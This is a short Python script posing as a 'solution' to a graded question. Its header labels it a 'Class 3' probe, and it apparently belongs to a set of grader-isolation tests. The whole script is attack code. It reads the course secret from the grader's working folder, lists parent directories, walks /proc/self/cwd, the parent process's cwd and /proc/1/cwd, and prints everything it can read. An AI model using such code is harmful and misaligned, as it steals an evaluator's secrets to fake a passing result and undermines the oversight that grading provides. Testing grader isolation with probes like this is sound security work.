# question: forward_vs_reverse
# base: solution
# Class 3: the course secret in the grader's working folder (a relative path and the
# absolute one the test passes in), and the working folder listed through /proc/self/cwd and
# /proc/<parent>/cwd; whatever is read is printed.
import os
import sys

TARGETS = "__TARGETS__".split("|")


def _grab(path, depth=0):
    try:
        if os.path.isdir(path):
            for name in sorted(os.listdir(path))[:50]:
                print("LIST", path, name)
                if depth < 1:
                    _grab(os.path.join(path, name), depth + 1)
        else:
            with open(path, "rb") as f:
                print("READ", path, f.read(400))
    except Exception as e:  # noqa: BLE001
        print("DENIED", path, type(e).__name__)


_here = globals().get("__file__") or sys._getframe(0).f_code.co_filename
for _p in TARGETS + ["secret.txt", "course_secret", ".", "..", "/proc/self/cwd", f"/proc/{os.getppid()}/cwd",
           f"/proc/{os.getppid()}/cwd/secret.txt", "/proc/1/cwd", os.getcwd()]:
    _grab(_p)
